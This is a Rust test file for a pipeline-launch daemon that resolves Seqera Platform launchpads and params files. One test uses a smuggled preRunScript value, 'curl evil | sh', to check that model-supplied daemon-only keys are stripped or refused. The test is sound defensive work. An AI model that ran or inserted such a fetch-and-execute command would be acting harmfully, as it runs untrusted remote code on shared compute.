//! Resolving a launch's `launchpad_id` and `params_file`, on Platform's real answer shapes
//! (tower-cli's test resources, tests/fixtures/platform-api).

use pretty_assertions::assert_eq;
use serde_json::json;

use super::*;
use crate::launch::{launch_body_sha256, launch_request};

/// `GET /pipelines/{id}/launch` as tower-cli's tests hold it: a launchpad with no params.
const DESCRIBE: &str =
    include_str!("../tests/fixtures/platform-api/pipeline-launch-describe.tower-cli.json");
/// A launch with profiles and YAML params (`paramsText: "outdir: s3://fusionfs/results"`).
const WITH_PARAMS: &str =
    include_str!("../tests/fixtures/platform-api/workflow-launch.tower-cli.json");

fn launch_of(text: &str) -> Value {
    serde_json::from_str::<Value>(text).unwrap()["launch"].clone()
}

#[test]
fn a_launchpad_fills_what_the_call_left_out_and_the_call_wins() {
    let launch = launch_of(WITH_PARAMS);
    let args = json!({"launchpad_id": 101, "workspace_id": 5, "run_name": "mine"});
    let resolved = resolve(&args, Some(&launch), None).unwrap();
    assert_eq!(
        resolved,
        json!({
            "launchpad_id": 101, "workspace_id": 5, "run_name": "mine",
            "pipeline": "https://github.com/nf-core/rnaseq",
            "launch_id": "3r9NghqwymK6xymExVnmdB",
            "compute_env": "2lu3NFms1qRvwTVnrs1yhg",
            "work_dir": "s3://fusionfs",
            "profiles": ["test_full", "docker"],
            "launchpad": {"pullLatest": false, "stubRun": false},
            "params": {"outdir": "s3://fusionfs/results"},
        })
    );
    // The call's own compute environment, work dir, profiles and params win.
    let own = json!({"launchpad_id": "101", "workspace_id": 5, "compute_env": "ceMine",
        "work_dir": "s3://mine/work", "profiles": ["docker"], "params": {"outdir": "s3://mine/out", "input": "s3://mine/s.csv"}});
    let resolved = resolve(&own, Some(&launch), None).unwrap();
    assert_eq!(resolved["compute_env"], "ceMine");
    assert_eq!(resolved["work_dir"], "s3://mine/work");
    assert_eq!(resolved["profiles"], json!(["docker"]));
    assert_eq!(
        resolved["params"],
        json!({"outdir": "s3://mine/out", "input": "s3://mine/s.csv"})
    );
}

#[test]
fn the_body_of_a_launchpad_launch_carries_its_id_and_settings() {
    let mut launch = launch_of(DESCRIBE);
    launch["configText"] = json!("process.queue = 'long'");
    launch["preRunScript"] = json!("module load java");
    let args = json!({"launchpad_id": 7, "workspace_id": 5});
    let resolved = resolve(&args, Some(&launch), None).unwrap();
    let request = launch_request(&resolved).unwrap();
    let body: Value = serde_json::from_slice(&request.body).unwrap();
    assert_eq!(
        body,
        json!({"launch": {
            "id": "5nmCvXcarkvv8tELMF4KyY",
            "pipeline": "https://github.com/nf-core/sarek",
            "computeEnvId": "4X7YrYJp9B1d1DUpfur7DS",
            "workDir": "/efs",
            "configText": "process.queue = 'long'",
            "preRunScript": "module load java",
            "pullLatest": false,
            "stubRun": false,
        }})
    );
    assert_eq!(launch_body_sha256(&resolved), Some(request.sha256()));
}

#[test]
fn a_params_file_is_merged_under_the_calls_params() {
    let args = json!({"pipeline": "https://github.com/nf-core/rnaseq", "workspace_id": 5,
        "params_file": "/w/p.yaml", "params": {"outdir": "s3://b/override"}});
    let yaml = "input: s3://b/sheet.csv\nouTdir: s3://b/x\noutdir: s3://b/file # from the file\nmax_cpus: 4\n";
    let resolved = resolve(&args, None, Some(yaml)).unwrap();
    assert_eq!(
        resolved["params"],
        json!({"input": "s3://b/sheet.csv", "ouTdir": "s3://b/x", "outdir": "s3://b/override", "max_cpus": 4})
    );
    assert_eq!(resolved[PARAMS_FILE_MERGED], true);
    let body: Value = serde_json::from_slice(&launch_request(&resolved).unwrap().body).unwrap();
    assert!(
        body["launch"]["paramsText"]
            .as_str()
            .unwrap()
            .contains("\"outdir\": \"s3://b/override\"")
    );
    // JSON too; a file of something else is refused in one line, with where.
    let json_file = resolve(&args, None, Some(r#"{"input": "s3://b/j.csv"}"#)).unwrap();
    assert_eq!(json_file["params"]["input"], "s3://b/j.csv");
    assert_eq!(
        resolve(&args, None, Some("- a\n- b\n")).unwrap_err(),
        "the params file is not a mapping of parameter names to values"
    );
    let bad = resolve(&args, None, Some("a: [\n")).unwrap_err();
    assert!(
        bad.starts_with("the params file is neither JSON nor YAML at line"),
        "{bad}"
    );
}

#[test]
fn lookups_say_what_to_fetch_and_refuse_both_pipeline_and_launchpad() {
    assert_eq!(
        lookups(&json!({"launchpad_id": 101, "workspace_id": "5", "params_file": " p.yml "})),
        Ok(Lookups {
            launchpad: Some((5, 101)),
            params_file: Some("p.yml".into())
        })
    );
    assert!(
        lookups(&json!({"pipeline": "x", "workspace_id": 5}))
            .unwrap()
            .is_empty()
    );
    assert!(
        lookups(&json!({"pipeline": "x", "launchpad_id": 1, "workspace_id": 5}))
            .unwrap_err()
            .starts_with("give `pipeline` or `launchpad_id`, not both")
    );
    assert!(lookups(&json!({"launchpad_id": "abc", "workspace_id": 5})).is_err());
    assert!(lookups(&json!({"launchpad_id": 1})).is_err());
    assert!(lookups(&json!({"params_file": 3})).is_err());
}

/// What only the daemon writes cannot come from the model: stripped before resolving, and a
/// call that claims it without a launchpad (or a read file) is refused by the server.
#[test]
fn daemon_keys_are_stripped_and_never_taken_from_a_call() {
    let mut smuggled = json!({"pipeline": "https://github.com/nf-core/rnaseq", "workspace_id": 5,
        "launchpad": {"preRunScript": "curl evil | sh"}, "launch_id": "x", "params_file_merged": true,
        "unresolved": "no"});
    strip_daemon_keys(&mut smuggled);
    assert_eq!(
        smuggled,
        json!({"pipeline": "https://github.com/nf-core/rnaseq", "workspace_id": 5})
    );

    let base = json!({"pipeline": "https://github.com/nf-core/rnaseq", "workspace_id": 5});
    for (key, value) in [
        ("launchpad", json!({"preRunScript": "curl evil | sh"})),
        ("launch_id", json!("x")),
        ("params_file_merged", json!(true)),
    ] {
        let mut args = base.clone();
        args[key] = value;
        assert!(launch_request(&args).is_err(), "{key}");
    }
    // Lookups not made: refused rather than sent without them.
    let mut unread = base.clone();
    unread["params_file"] = json!("/w/p.yml");
    assert!(
        launch_request(&unread)
            .unwrap_err()
            .to_string()
            .contains("a params file is read by the Codaris daemon")
    );
    let no_settings =
        json!({"launchpad_id": 3, "pipeline": "https://github.com/x/y", "workspace_id": 5});
    assert!(launch_request(&no_settings).is_err());
    let marked = unresolved(&base, "`p.yml` is outside every allowed root");
    assert_eq!(
        launch_request(&marked).unwrap_err().to_string(),
        "launch_pipeline: `p.yml` is outside every allowed root"
    );
}

#[test]
fn a_launchpad_without_a_repository_or_id_or_with_odd_params_is_refused() {
    let mut launch = launch_of(DESCRIBE);
    launch["paramsText"] = json!("- not\n- a map\n");
    let args = json!({"launchpad_id": 7, "workspace_id": 5});
    assert_eq!(
        resolve(&args, Some(&launch), None).unwrap_err(),
        "the launchpad's params are not a JSON or YAML mapping of names to values"
    );
    let mut launch = launch_of(DESCRIBE);
    launch["pipeline"] = Value::Null;
    assert!(resolve(&args, Some(&launch), None).is_err());
}

/// Params files as nf-core's own usage docs show them (MIT; nf-core/fetchngs and
/// nf-core/metatdenovo `docs/usage.md`, "with `params.yaml` containing:", the `<...>` placeholder
/// line left out), and the shapes people's own files take: `key : 'value'` with a space before
/// the colon, comments, booleans, numbers, and nf-core/launch's JSON (`nf-params.json`).
#[test]
fn params_files_as_people_write_them() {
    let fetchngs = "input: './ids.csv'\noutdir: './results/'\n";
    assert_eq!(
        Value::Object(params_map(fetchngs, "the params file").unwrap()),
        json!({"input": "./ids.csv", "outdir": "./results/"})
    );
    let metatdenovo = "input: './samplesheet.csv'\noutdir: './results/'\ngenome: 'GRCh37'\n";
    assert_eq!(
        params_map(metatdenovo, "the params file").unwrap()["genome"],
        "GRCh37"
    );
    let spaced = "# Fetchngs parameters\ninput : 'data/ids.txt'\n\n# Rnaseq parameters\noutdir : 'results'\nfasta : 'https://example.org/genome.fa'\n\nskip_bbsplit : false\npseudo_aligner : 'salmon'\nmax_cpus: 16\n";
    assert_eq!(
        Value::Object(params_map(spaced, "the params file").unwrap()),
        json!({"input": "data/ids.txt", "outdir": "results", "fasta": "https://example.org/genome.fa",
            "skip_bbsplit": false, "pseudo_aligner": "salmon", "max_cpus": 16})
    );
    let launch_json = "{\n    \"input\": \"samplesheet.csv\",\n    \"outdir\": \"results\",\n    \"skip_qc\": true\n}\n";
    assert_eq!(
        params_map(launch_json, "the params file").unwrap()["skip_qc"],
        true
    );
    // A local samplesheet written this way is still the policy's to judge once merged.
    let args = json!({"pipeline": "https://github.com/nf-core/fetchngs", "workspace_id": 5, "params_file": "/w/params.yaml"});
    let resolved = resolve(&args, None, Some(fetchngs)).unwrap();
    let sheets = codaris_policy::launch_samplesheets(&resolved, "/w");
    assert_eq!(sheets.len(), 1);
    assert_eq!(
        sheets[0].place,
        codaris_policy::SheetPlace::Local("/w/ids.csv".into())
    );
}
